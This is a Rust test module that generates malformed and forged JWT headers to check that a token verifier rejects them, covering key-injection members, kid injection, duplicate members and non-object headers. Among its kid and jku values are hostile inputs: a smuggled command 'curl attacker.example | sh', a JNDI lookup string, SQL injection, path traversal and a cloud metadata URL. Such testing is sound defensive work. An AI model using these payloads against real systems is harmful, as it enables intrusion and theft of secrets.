//! Headers: extensions, keys that a token brings along, duplicates, wrong types, and what is no
//! object at all.

use crate::{
    support::{self, Signer, encode, fixture, jwk_of_pem},
    target::{Attack, Attacks, CLAIMS, Target},
};

pub(crate) fn attacks(target: &Target) -> Vec<Attack> {
    let mut attacks = Attacks::on(target);
    extensions(&mut attacks);
    injected_keys(&mut attacks);
    key_ids(&mut attacks);
    members(&mut attacks);
    other_kinds(&mut attacks);
    private_names(&mut attacks);
    not_an_object(&mut attacks);
    attacks.list
}

fn extensions(attacks: &mut Attacks<'_>) {
    for member in [
        r#""crit":["exp"],"exp":4102444800"#,
        r#""crit":["b64"],"b64":false"#,
        r#""crit":["b64"],"b64":true"#,
        r#""crit":["http://example.com/unknown"],"http://example.com/unknown":1"#,
        r#""crit":["alg"]"#,
        r#""crit":[]"#,
        r#""crit":null"#,
        r#""crit":"exp""#,
        r#""crit":[1]"#,
        r#""crit":{}"#,
        r#""\u0063rit":["x"],"x":1"#,
        r#""b64":false"#,
        r#""b64":true"#,
        r#""b64":null"#,
        r#""zip":"DEF""#,
        r#""zip":"none""#,
        r#""zip":null"#,
        r#""enc":"A256GCM""#,
        r#""enc":"none""#,
        r#""enc":null"#,
    ] {
        let target = attacks.target;
        attacks.malformed(
            format!("extension {member}"),
            target.sign_header(&target.header_with(member)),
        );
    }
    // RFC 7797: an unencoded payload, signed as it is.
    let header = encode(attacks.target.header_with(r#""b64":false,"crit":["b64"]"#));
    let token = attacks
        .target
        .signer
        .sign_message(&format!("{header}.unencoded"));
    attacks.malformed("unencoded payload", token);
}

/// The attacker's signature is good, by the key that the attacker's header brings along.
fn injected_keys(attacks: &mut Attacks<'_>) {
    let target = attacks.target;
    let stranger = Signer::foreign(target.algorithm());
    let mut forge = |name: &str, members: &str| {
        attacks.forged(
            format!("a stranger's key in {name}"),
            stranger.sign(target.header_with(members), CLAIMS),
        );
    };
    let certificate = encode(support::der(fixture!("rsa.cert.pem")));
    forge(
        "jwk",
        &format!(r#""jwk":{}"#, jwk_of_pem(fixture!("rsa-other.pem"))),
    );
    forge(
        "jwk, EC",
        &format!(r#""jwk":{}"#, jwk_of_pem(fixture!("p256-other.pem"))),
    );
    forge("jwk, a secret", r#""jwk":{"kty":"oct","k":"c2VjcmV0"}"#);
    forge("jku", r#""jku":"https://attacker.example/keys.json""#);
    forge("jku, a file", r#""jku":"file:///etc/passwd""#);
    forge(
        "jku, a metadata service",
        r#""jku":"http://169.254.169.254/latest/meta-data""#,
    );
    forge("x5u", r#""x5u":"https://attacker.example/chain.pem""#);
    forge("x5c", &format!(r#""x5c":["{certificate}"]"#));
    forge("x5c, empty", r#""x5c":[]"#);
    forge("x5t", r#""x5t":"AAAA","x5t#S256":"AAAA""#);
    forge(
        "jwk, jku, x5c and x5u",
        r#""jku":"x","x5u":"x","x5c":[],"jwk":{"kty":"oct","k":"c2VjcmV0"}"#,
    );
    forge(
        "members of no standard",
        r#""key":"secret","secret":"secret","publicKey":"x","jwks":{"keys":[]}"#,
    );
}

fn key_ids(attacks: &mut Attacks<'_>) {
    let target = attacks.target;
    // The secret that these paths would give: an empty file.
    let stranger = if target.is_secret() {
        Signer::hmac(target.algorithm(), b"")
    } else {
        Signer::foreign(target.algorithm())
    };
    for (name, kid) in [
        ("a path", "../../../../../../dev/null".to_owned()),
        ("an absolute path", "/dev/null".to_owned()),
        ("a Windows path", r"..\\..\\..\\windows\\win.ini".to_owned()),
        ("a URL", "https://attacker.example/key".to_owned()),
        ("SQL", "' UNION SELECT 'secret' -- ".to_owned()),
        (
            "a command",
            "key.pem; curl attacker.example | sh".to_owned(),
        ),
        ("a template", "${jndi:ldap://attacker.example/a}".to_owned()),
        ("empty", String::new()),
        ("white space", " ".to_owned()),
        ("a zero byte", r"\u0000".to_owned()),
        ("an end of line", r"a\r\nx-injected: 1".to_owned()),
        ("overlong", "k".repeat(4000)),
        ("not ASCII", "ключ\u{202e}".to_owned()),
        ("__proto__", "__proto__".to_owned()),
    ] {
        let header = format!(r#"{{"alg":"{}","kid":"{kid}"}}"#, target.alg());
        attacks.expect(
            target.foreign_key_id(),
            format!("kid is {name}"),
            stranger.sign(header, CLAIMS),
        );
    }
    for json in ["1", "true", "[]", r#"["a"]"#, "{}", "1e999"] {
        let header = format!(r#"{{"alg":"{}","kid":{json}}}"#, target.alg());
        attacks.malformed(format!("kid is {json}"), target.sign_header(&header));
    }
    let kid = target.kid.unwrap_or("a");
    let header = format!(
        r#"{{"alg":"{}","kid":"{kid}","kid":"{kid}"}}"#,
        target.alg()
    );
    attacks.malformed("kid is there twice, the same", target.sign_header(&header));
    let header = format!(
        r#"{{"alg":"{}","kid":"{kid}","k\u0069d":"b"}}"#,
        target.alg()
    );
    attacks.malformed(
        "kid is there twice, one of them escaped",
        target.sign_header(&header),
    );
    let header = format!(r#"{{"alg":"{}","kid":null,"kid":"{kid}"}}"#, target.alg());
    attacks.malformed(
        "kid is there twice, one of them null",
        target.sign_header(&header),
    );
    let header = format!(r#"{{"alg":"{}","kid":null,"kid":null}}"#, target.alg());
    attacks.malformed("kid is null twice", target.sign_header(&header));
    let header = format!(r#"{{"alg":"{}","kid":"\ud800"}}"#, target.alg());
    attacks.malformed("kid is half a character", target.sign_header(&header));
}

fn members(attacks: &mut Attacks<'_>) {
    let target = attacks.target;
    let alg = target.alg();
    for json in ["1", "false", "[]", r#"["JWT"]"#, "{}"] {
        let header = format!(r#"{{"alg":"{alg}","typ":{json}}}"#);
        attacks.malformed(format!("typ is {json}"), target.sign_header(&header));
    }
    let deep = format!(r#""x":{}{}"#, "[".repeat(2000), "]".repeat(2000));
    let deep_objects = format!(r#""x":{}1{}"#, r#"{"x":"#.repeat(500), "}".repeat(500));
    for (name, members) in [
        ("typ twice", r#""typ":"JWT""#),
        ("typ twice, one of them null", r#""typ":null"#),
        ("an unknown member twice", r#""x":1,"x":2"#),
        ("an unknown member twice, the same", r#""x":1,"x":1"#),
        (
            "an unknown member twice, one escaped",
            r#""x":1,"\u0078":1"#,
        ),
        (
            "jku twice",
            r#""jku":"https://a.example","jku":"https://b.example""#,
        ),
        ("cty is a number", r#""cty":1"#),
        ("jku is a list", r#""jku":["https://a.example"]"#),
        ("jwk is a text", r#""jwk":"key""#),
        ("jwk is a list", r#""jwk":[1]"#),
        ("x5u is a number", r#""x5u":1"#),
        ("x5c is a text", r#""x5c":"MIIB""#),
        ("x5t is a number", r#""x5t":1"#),
        ("x5t#S256 is a list", r##""x5t#S256":[]"##),
        ("lists nested 2000 deep", &deep),
        ("objects nested 500 deep", &deep_objects),
        ("NaN for a number", r#""x":NaN"#),
        ("a text with a control character", "\"x\":\"\n\""),
        ("a text that is half a character", r#""x":"\udc00""#),
    ] {
        attacks.malformed(name, target.sign_header(&target.header_with(members)));
    }
}

/// Signed by the same issuer with the same key, and not for logging in.
fn other_kinds(attacks: &mut Attacks<'_>) {
    let target = attacks.target;
    let with_type = |kind: &str| match target.kid {
        Some(kid) => format!(r#"{{"alg":"{}","typ":{kind},"kid":"{kid}"}}"#, target.alg()),
        None => format!(r#"{{"alg":"{}","typ":{kind}}}"#, target.alg()),
    };
    for kind in [
        "logout+jwt",
        "dpop+jwt",
        "secevent+jwt",
        "token-introspection+jwt",
    ] {
        for spelling in [
            kind.to_owned(),
            kind.to_uppercase(),
            format!("application/{kind}"),
            format!("APPLICATION/{}", kind.to_uppercase()),
            format!(" {kind}\\t"),
            format!(" application/ {kind} "),
            format!("{kind};charset=utf-8"),
            format!("application/{kind} ; charset=utf-8"),
            kind.replace('+', "\\u002b"),
            kind.replace('+', "\\u002B"),
            format!("application\\/{kind}"),
        ] {
            let token = target.sign_header(&with_type(&format!("\"{spelling}\"")));
            attacks.expect(
                "token_claims_invalid",
                format!("typ is {spelling:?}"),
                token,
            );
        }
    }
    let forged = Signer::foreign(target.algorithm()).sign(with_type("\"logout+jwt\""), CLAIMS);
    attacks.forged("typ is logout+jwt, and the signature a stranger's", forged);
}

/// Names that `serde_json` keeps for itself, and reads as something else if another crate switches
/// its features on.
fn private_names(attacks: &mut Attacks<'_>) {
    let target = attacks.target;
    for member in [
        r#""$serde_json::private::RawValue":"{}""#,
        r#""$serde_json::private::Number":"1""#,
        r#""\u0024serde_json::private::RawValue":"{}""#,
        r#""x":{"$serde_json::private::RawValue":"[]"}"#,
        r#""x":[{"y":1,"$serde_json\u003a:private::RawValue":"[]"}]"#,
        r#""jwk":{"kty":"oct","k":"AA","x":{"$serde_json::private::RawValue":"[]"}}"#,
    ] {
        attacks.malformed(
            format!("a private name of serde_json: {member}"),
            target.sign_header(&target.header_with(member)),
        );
    }
}

fn not_an_object(attacks: &mut Attacks<'_>) {
    let target = attacks.target;
    let alg = target.alg();
    let good = target.header();
    for (name, header) in [
        ("nothing", String::new()),
        ("white space", "  ".to_owned()),
        ("an empty object", "{}".to_owned()),
        ("null", "null".to_owned()),
        ("true", "true".to_owned()),
        ("a number", "1".to_owned()),
        ("a text", format!("{alg:?}")),
        ("a list", format!("[{alg:?}]")),
        ("a list with a header", format!("[{good}]")),
        (
            "an object without its end",
            good.trim_end_matches('}').to_owned(),
        ),
        ("an object and another one", format!("{good}{good}")),
        ("an object and a letter", format!("{good}x")),
        ("an object and a zero byte", format!("{good}\0")),
        (
            "an object after a byte order mark",
            format!("\u{feff}{good}"),
        ),
        (
            "an object with a comma too many",
            format!(r#"{{"alg":"{alg}",}}"#),
        ),
        (
            "an object with a comment",
            format!(r#"{{"alg":"{alg}"/* none */}}"#),
        ),
        ("an object in single quotes", format!("{{'alg':'{alg}'}}")),
        ("an object without quotes", format!("{{alg:{alg:?}}}")),
        (
            "an object with a number for a name",
            format!(r#"{{"alg":"{alg}",1:2}}"#),
        ),
        ("an object in base64", encode(&good)),
    ] {
        attacks.malformed(format!("header is {name}"), target.sign_header(&header));
    }
    let mut bytes = good.into_bytes();
    let position = bytes.len() - 2;
    bytes.splice(position..position, [0xff, 0xfe]);
    attacks.malformed("header is not UTF-8", target.signer.sign(bytes, CLAIMS));
    let utf16: Vec<u8> = target
        .header()
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    attacks.malformed("header is UTF-16", target.signer.sign(utf16, CLAIMS));

    // Both together are UTF-8, and neither is.
    for character in ["é", "€", "😀"] {
        for split in 1..character.len() {
            let (end, start) = character.as_bytes().split_at(split);
            let header = [target.header().as_bytes(), end].concat();
            let claims = [start, CLAIMS.as_bytes()].concat();
            attacks.malformed(
                format!(
                    "{character} begins in the header, with {split} bytes, and ends in the payload"
                ),
                target.signer.sign(header, claims),
            );
        }
    }
    attacks.malformed(
        "header is empty, and the payload begins inside a character",
        target.signer.sign("", [0xa9]),
    );
}
